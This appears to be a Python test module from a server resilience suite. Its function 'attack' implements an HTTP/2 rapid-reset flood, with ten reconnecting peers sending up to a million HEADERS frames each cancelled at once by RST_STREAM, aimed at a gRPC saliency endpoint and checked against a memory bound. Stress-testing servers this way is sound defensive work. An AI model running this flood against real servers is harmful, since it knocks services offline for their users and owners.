"""Calls that are reset as soon as they are begun, by a peer that connects anew
whenever it is hung up on."""

import time

from http2 import (END_HEADERS, HEADERS, RST_STREAM, Peer, frame, header_block,
                   pump_all)

ITEM = "2"
WHAT = "up to 1,000,000 calls that are reset at once, on 10 connections"
BOUND_MIB = 1500
MAY_REFUSE = True
CALLS = 1_000_000
SECONDS = 60
AT_ONCE = 1000


def attack(server):
    block = header_block("/saliency.v1.SaliencyService/ComputeSaliency")
    cancel = (8).to_bytes(4, "big")
    calls, connections = 0, 10
    peers = [Peer(server.port) for _ in range(10)]
    begun = [0] * 10
    end = time.monotonic() + SECONDS
    while calls < CALLS and time.monotonic() < end:
        for at, peer in enumerate(peers):
            if peer.closed:
                peer.close()
                try:
                    peers[at] = peer = Peer(server.port)
                except OSError:  # hung up on at once
                    continue
                begun[at] = 0
                connections += 1
            if len(peer.out) > 1 << 17:
                continue
            for number in range(begun[at], begun[at] + AT_ONCE):
                stream = 2 * number + 1
                peer.out += frame(HEADERS, END_HEADERS, stream, block)
                peer.out += frame(RST_STREAM, 0, stream, cancel)
            begun[at] += AT_ONCE
            calls += AT_ONCE
        for peer in peers:
            peer.pump()
    pump_all(peers, 10)
    for peer in peers:
        peer.close()
    return {"note": f"{calls:,} calls written, {connections} connections",
            "calls": None}
